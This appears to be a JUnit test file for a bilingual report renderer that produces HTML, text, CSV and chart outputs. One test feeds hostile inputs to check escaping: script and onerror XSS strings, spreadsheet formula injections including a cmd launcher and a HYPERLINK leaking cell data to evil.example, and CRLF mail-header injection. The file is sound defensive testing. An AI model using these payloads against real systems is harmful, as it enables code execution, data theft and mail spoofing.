package se.vardag.report;

import static org.assertj.core.api.Assertions.assertThat;
import static se.vardag.report.ReportFixtures.D;
import static se.vardag.report.ReportFixtures.flag;
import static se.vardag.report.ReportFixtures.init;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import javax.imageio.ImageIO;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import se.vardag.Text;
import se.vardag.report.ReportData.FlagRow;

class ReportRendererTest {
  static RenderedReport render(String locale, ReportData data) {
    return new ReportRenderer(ReportFixtures.config(locale, Map.of())).render(data);
  }

  @Test
  void swedishReportStatesTheHeadlineInTheSubjectAndListsHeadlineInitiativesFirst() {
    RenderedReport r = render("sv", ReportFixtures.sample());
    assertThat(r.subject()).isEqualTo("Vardag 3 november 2026: 2 av 5 initiativ efter piloten saknar förankring "
        + "(+1 pilot med allvarlig brist) – mest brådskande: ITIL-incidenthantering i servicedesken");
    String html = r.fileHtml();
    int a = html.indexOf("ITIL-incidenthantering i servicedesken");
    int c = html.indexOf("AI-assistent för ärendehandläggning");
    int d = html.indexOf("Nytt intranät: Insidan");
    int others = html.indexOf("Övriga initiativ");
    int b = html.indexOf("ITIL-processer i IT-driften");
    assertThat(a).isPositive().isLessThan(c);
    assertThat(c).isLessThan(d);
    assertThat(d).isLessThan(others);
    assertThat(others).isLessThan(html.indexOf("ITIL-processer i IT-driften", others));
    assertThat(b).isPositive();
    // The three questions, owner and verdict, flags grouped by pillar, in Swedish.
    assertThat(html).contains("Vem äger det här när piloten är slut", "Vet medarbetarna vad som förväntas",
        "Hur vet vi att förändringen faktiskt används i vardagen", "Saknar förankring", "E1042",
        "Ägaren E1042 slutade 30 september 2026.", "Ägarskap", "Kompetens", "Användning",
        "29 av de 48 som utbildats och kunnat använda det i minst 28 dagar har inte använt det de senaste 28 dagarna (60\u00a0%)",
        "11 aktiva denna vecka mot 38 när piloten toppade (29\u00a0% kvar)", "Datakvalitet",
        "14 indatarader avvisades", "trainings.csv 2", "usage/ 12");
    // No English template word leaks into the Swedish report.
    for (String english : List.of("Owner", "Needs action", "Trained", "Everyday use", "Data quality", "left on",
        "Pilot peak", "Other initiatives", "too small")) {
      assertThat(html).as(english).doesNotContain(english);
      assertThat(r.text()).as(english).doesNotContain(english);
    }
    assertThat(r.attachmentName()).isEqualTo("initiativmått-2026-11-03.csv");
  }

  @Test
  void englishReportReadsTheSameTablesInEnglish() {
    RenderedReport r = render("en", ReportFixtures.sample());
    assertThat(r.subject()).isEqualTo("Vardag 3 November 2026: 2 of 5 initiatives past the pilot lack follow-through "
        + "(+1 pilot ending with a serious gap) – most urgent: ITIL-incidenthantering i servicedesken");
    assertThat(r.fileHtml()).contains("Owner E1042 left on 30 September 2026.", "Lacks follow-through",
        "Who owns this when the pilot is over", "Data quality");
    assertThat(r.attachmentName()).isEqualTo("initiative-metrics-2026-11-03.csv");
  }

  @Test
  void everyFlagIsWordedFromItsArgumentsNotFromTheEnglishEvidence() {
    ReportData s = ReportFixtures.sample();
    for (String lang : List.of("sv", "en")) {
      EvidenceText ev = new EvidenceText(new Messages(lang));
      for (FlagRow f : s.flags()) {
        String t = ev.text(f);
        assertThat(t).as(lang + " " + f.code()).isNotEqualTo(f.evidence()).doesNotContain("{");
      }
    }
    EvidenceText sv = new EvidenceText(new Messages("sv"));
    assertThat(sv.text(flag("X", "n", "OWNER_LEFT", "ownership", "high", "at_risk", "e",
        "owner_id", "E7", "owner_status", "not_in_roster"))).isEqualTo("Ägaren E7 finns inte i personalregistret.");
    assertThat(sv.text(flag("X", "n", "FOLLOW_UP_OVERDUE", "follow-up", "high", "at_risk", "e",
        "cadence_days", "30", "limit_days", "45"))).isEqualTo(
            "Aldrig uppföljt i ordinarie styrning, trots ett överenskommet intervall på 30 dagar.");
    assertThat(sv.text(flag("X", "n", "NO_EFFECT", "effect", "medium", "at_risk", "e", "kpi", "Väntetid",
        "reason", "no_baseline"))).isEqualTo("Väntetid: det finns inga mätningar från före piloten att jämföra med.");
    // Arguments missing: the flag's title, not a broken sentence.
    assertThat(sv.text(flag("X", "n", "OWNER_LEFT", "ownership", "high", "at_risk", "owner left"))).isEqualTo(
        "Ägaren har slutat.");
    // A code this version does not know: the published English evidence.
    assertThat(sv.text(flag("X", "n", "NEW_CODE", "usage", "medium", "at_risk", "new evidence"))).isEqualTo(
        "new evidence");
  }

  @Test
  void groupsTooSmallToReportOnSayTheyAreTooSmallInsteadOfNumbers() {
    ReportData base = ReportFixtures.sample();
    List<InitiativeRow> rows = new ArrayList<>(base.initiatives());
    rows.replaceAll(i -> !i.id().equals("I-003") ? i : init("I-003", i.name(), "lacks_follow_through")
        .set("target_population", 3L).set("suppressed", true).set("usage_signals", "copilot:*")
        .set("course_ids", "AI").row());
    ReportData data = new ReportData(D, rows, base.flags(), base.weeks().stream()
        .map(w -> !w.initiativeId().equals("I-003") ? w
            : new ReportData.WeekRow(w.initiativeId(), w.name(), w.weekIndex(), w.weekStart(), w.weekEnd(), null, true))
        .collect(java.util.stream.Collectors.toList()), base.units(), base.quality());
    RenderedReport r = render("sv", data);
    String html = r.fileHtml();
    String section = html.substring(html.indexOf("AI-assistent för ärendehandläggning"),
        html.indexOf("Nytt intranät: Insidan"));
    assertThat(section).contains("Målgruppen har färre än 5 personer",
        "För liten grupp för att redovisa (färre än 5 personer)");
    assertThat(section).doesNotContain("aktiva denna vecka").doesNotContain("<img");
    // The other small group (E-arkiv, 4 people) in the compact table and the overview.
    String others = html.substring(html.indexOf("Övriga initiativ"));
    assertThat(others).contains("för liten grupp");
    assertThat(r.text()).contains("För liten grupp för att redovisa");
    assertThat(html).contains("2 initiativ har färre än 5 personer i målgruppen");
  }

  @Test
  void missingOptionalInputsAreNamedWithTheQuestionsTheyLeaveOpen() {
    ReportData base = ReportFixtures.sample();
    ReportData data = new ReportData(D, base.initiatives(), base.flags(), base.weeks(), base.units(),
        ReportFixtures.quality(0, List.of("outcomes.csv", "learning_activities.csv")));
    RenderedReport r = render("sv", data);
    assertThat(r.fileHtml()).contains("Inga indatarader avvisades.",
        "learning_activities.csv levererades inte, så detta kunde inte besvaras: övningstid och lärande efter utbildningen.",
        "outcomes.csv levererades inte, så detta kunde inte besvaras: effekten på initiativets nyckeltal.",
        "Kan inte besvaras: outcomes.csv levererades inte");
    assertThat(r.text()).contains("outcomes.csv levererades inte");
    RenderedReport en = render("en", data);
    assertThat(en.fileHtml()).contains("outcomes.csv was not delivered, so this could not be answered: the effect");
  }

  private static List<String> styleBlocks(String html) {
    List<String> out = new ArrayList<>();
    Matcher mt = Pattern.compile("<style>(.*?)</style>", Pattern.DOTALL)
        .matcher(html);
    while (mt.find()) {
      out.add(mt.group(1));
    }
    return out;
  }

  @Test
  void htmlIsSelfContainedAndTheMailVersionResolvesEveryImageByContentId() {
    RenderedReport r = render("sv", ReportFixtures.sample());
    String html = r.fileHtml();
    assertThat(html).doesNotContainIgnoringCase("<script").doesNotContainIgnoringCase("<link")
        .doesNotContainIgnoringCase("@import")
        .doesNotContainIgnoringCase("url(").doesNotContainIgnoringCase("javascript:")
        .doesNotContainIgnoringCase("src=\"http").doesNotContainIgnoringCase("onerror");
    List<String> fileSrcs = srcs(html);
    assertThat(fileSrcs).hasSize(r.charts().size()).allMatch(s -> s.startsWith("charts/"));
    // The one style block is the phones' media query: no resource, no selector of the reader's own page.
    assertThat(styleBlocks(html)).containsExactly(styleBlocks(r.mailHtml()).get(0));
    assertThat(styleBlocks(html).get(0)).startsWith("@media only screen and (max-width: 620px) { .vd-wrap");
    // The mail shows the digest's one chart (ingredients) by Content-ID; the others are in the PDF.
    List<String> mailSrcs = srcs(r.mailHtml());
    assertThat(mailSrcs).containsExactly("cid:" + r.mailCharts().get(0).contentId());
    assertThat(r.mailCharts()).extracting(RenderedReport.Chart::fileName).containsExactly("ingredients.png");
    // 3 headline initiatives with weekly charts, plus the overview.
    assertThat(r.charts()).extracting(RenderedReport.Chart::fileName)
        .containsExactly("weekly-01.png", "weekly-02.png", "weekly-03.png", "overview.png", "ingredients.png");
  }

  private static List<String> srcs(String html) {
    List<String> out = new ArrayList<>();
    Matcher m = Pattern.compile("<img src=\"([^\"]*)\"").matcher(html);
    while (m.find()) {
      out.add(m.group(1));
    }
    return out;
  }

  @Test
  void plainTextSaysWhatTheHtmlSays() {
    RenderedReport r = render("sv", ReportFixtures.sample());
    for (String s : List.of("ITIL-incidenthantering i servicedesken", "Ägaren E1042 slutade 30 september 2026.",
        "Vem äger det här när piloten är slut", "Aktiva användare per vecka, äldst först: 30, 27, 24",
        "(pilottopp 38)", "Övriga initiativ", "Självservice för lönefrågor", "Datakvalitet",
        "initiativmått-2026-11-03.csv", "Vardagsanvändning i alla initiativ")) {
      assertThat(r.text()).as(s).contains(s);
      assertThat(r.fileHtml()).as(s).contains(Text.html(s));
    }
    assertThat(r.text()).doesNotContain("<").doesNotContain("&amp;");
  }

  @Test
  void hostileTextIsEscapedInTheBodyNeutralisedInTheCsvAndFoldedOutOfTheSubject() throws Exception {
    String evil = ReportFixtures.HOSTILE_NAME;
    List<InitiativeRow> rows = List.of(init("I-666", evil, "lacks_follow_through").owner("<b>E1</b>", false, null)
        .goal("G<1>", "=cmd|' /C calc'!A0").set("kpi", "@SUM(1+1)\r\nX-Evil: 1").set("target_org_units", "<i>IT</i>")
        .set("flag_count", 1).row());
    List<FlagRow> flags = List.of(flag("I-666", evil, "OWNER_LEFT", "ownership", "high", "lacks_follow_through",
        "<img src=x onerror=alert(1)>", "owner_id", "<script>x</script>", "owner_status", "left", "date", "2026-01-01"));
    ReportData data = new ReportData(D, rows, flags, ReportFixtures.weeks("I-666", evil, false,
        1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12), List.of(), ReportFixtures.quality(0, List.of()));
    RenderedReport r = render("sv", data);

    String html = r.fileHtml();
    assertThat(html).doesNotContain("<script").doesNotContain("<b>E1").doesNotContain("<i>IT")
        .doesNotContain("<img src=x").contains("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;")
        .contains("&lt;b&gt;E1&lt;/b&gt;").contains("=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1");
    assertThat(html.split("Bcc: victim", -1).length - 1).isPositive(); // present as text, on one line:
    assertThat(html).doesNotContain("\r\nBcc").doesNotContain("\nBcc");
    assertThat(r.mailHtml()).doesNotContain("<script");

    assertThat(r.subject()).doesNotContain("\r").doesNotContain("\n").contains("mest brådskande: =HYPERLINK");
    assertThat(r.text()).doesNotContain("\r");
    for (String line : r.text().split("\n")) {
      assertThat(line).doesNotStartWith("Bcc:");
    }

    byte[] csv = r.csv();
    String text = new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8);
    try (CSVParser p = CsvExport.format().builder().setHeader().setSkipHeaderRecord(true).get()
        .parse(new StringReader(text))) {
      CSVRecord rec = p.getRecords().get(0);
      assertThat(rec.get("name")).startsWith("'=HYPERLINK(");
      assertThat(CsvExport.unneutralise(rec.get("name"))).isEqualTo(evil);
      assertThat(rec.get("goal_title")).isEqualTo("'=cmd|' /C calc'!A0");
      assertThat(rec.get("kpi")).isEqualTo("'@SUM(1+1)\r\nX-Evil: 1");
      assertThat(rec.get("owner_id")).isEqualTo("<b>E1</b>");
    }
  }

  @Test
  void renderingIsDeterministic() {
    RenderedReport a = render("sv", ReportFixtures.sample());
    RenderedReport b = render("sv", ReportFixtures.sample());
    assertThat(a.fileHtml()).isEqualTo(b.fileHtml());
    assertThat(a.text()).isEqualTo(b.text());
    assertThat(a.csv()).isEqualTo(b.csv());
    for (int i = 0; i < a.charts().size(); i++) {
      assertThat(a.charts().get(i).png()).isEqualTo(b.charts().get(i).png());
    }
  }

  @Test
  void chartsArePngsInDejaVuSansWhichDrawsSwedishLetters() throws Exception {
    assertThat(Charts.dejaVuAvailable()).as("DejaVu Sans installed").isTrue();
    assertThat(Charts.font(java.awt.Font.PLAIN, 11f).canDisplayUpTo("Pilotens slut · Användning åäö ÅÄÖ")).isEqualTo(-1);
    RenderedReport r = render("sv", ReportFixtures.sample());
    for (RenderedReport.Chart c : r.charts()) {
      BufferedImage img = ImageIO.read(new ByteArrayInputStream(c.png()));
      assertThat(img.getWidth()).isEqualTo(Charts.WIDTH * Charts.SCALE);
      assertThat(c.alt()).startsWith("Diagram:");
    }
  }

  @Test
  void noHeadlineAndNothingPastThePilotAreSaidPlainly() {
    RenderedReport r = render("sv", new ReportData(D, List.of(init("I-1", "Pilot A", "in_pilot")
        .pilot(LocalDate.of(2026, 10, 1), null).people(10, 5, 5, 2).row()), List.of(), List.of(), List.of(),
        ReportFixtures.quality(0, List.of())));
    assertThat(r.subject()).isEqualTo("Vardag 3 november 2026: inget initiativ har lämnat piloten ännu");
    assertThat(r.fileHtml()).contains("Inget initiativ kräver åtgärd just nu.");
    RenderedReport empty = render("en", new ReportData(D, List.of(), List.of(), List.of(), List.of(),
        ReportFixtures.quality(0, List.of())));
    assertThat(empty.subject()).isEqualTo("Vardag 3 November 2026: no initiative has left its pilot yet");
    assertThat(empty.charts()).isEmpty();
  }

  @Test
  void reportFolderIsWrittenWholeAndLoadsBackWithoutSpark(@TempDir Path tmp) throws Exception {
    RenderedReport r = render("sv", ReportFixtures.sample());
    Path dir = tmp.resolve("report");
    Files.createDirectories(dir);
    Files.writeString(dir.resolve("stale.txt"), "from an older render");
    r.writeTo(dir);
    assertThat(dir.resolve("stale.txt")).doesNotExist();
    assertThat(dir.resolve("report.html")).exists();
    assertThat(dir.resolve("report.txt")).exists();
    assertThat(dir.resolve("initiatives.csv")).exists();
    assertThat(dir.resolve("charts/overview.png")).exists();
    try (var s = Files.list(tmp)) {
      assertThat(s.map(p -> p.getFileName().toString())).containsExactly("report");
    }
    RenderedReport back = RenderedReport.load(dir);
    assertThat(back.subject()).isEqualTo(r.subject());
    assertThat(back.text()).isEqualTo(r.text());
    assertThat(back.fileHtml()).isEqualTo(r.fileHtml());
    assertThat(back.mailHtml()).isEqualTo(r.mailHtml());
    assertThat(back.csv()).isEqualTo(r.csv());
    assertThat(back.attachmentName()).isEqualTo("initiativmått-2026-11-03.csv");
    assertThat(back.charts()).hasSize(r.charts().size());
    for (int i = 0; i < r.charts().size(); i++) {
      assertThat(back.charts().get(i).contentId()).isEqualTo(r.charts().get(i).contentId());
      assertThat(back.charts().get(i).png()).isEqualTo(r.charts().get(i).png());
    }
  }
}
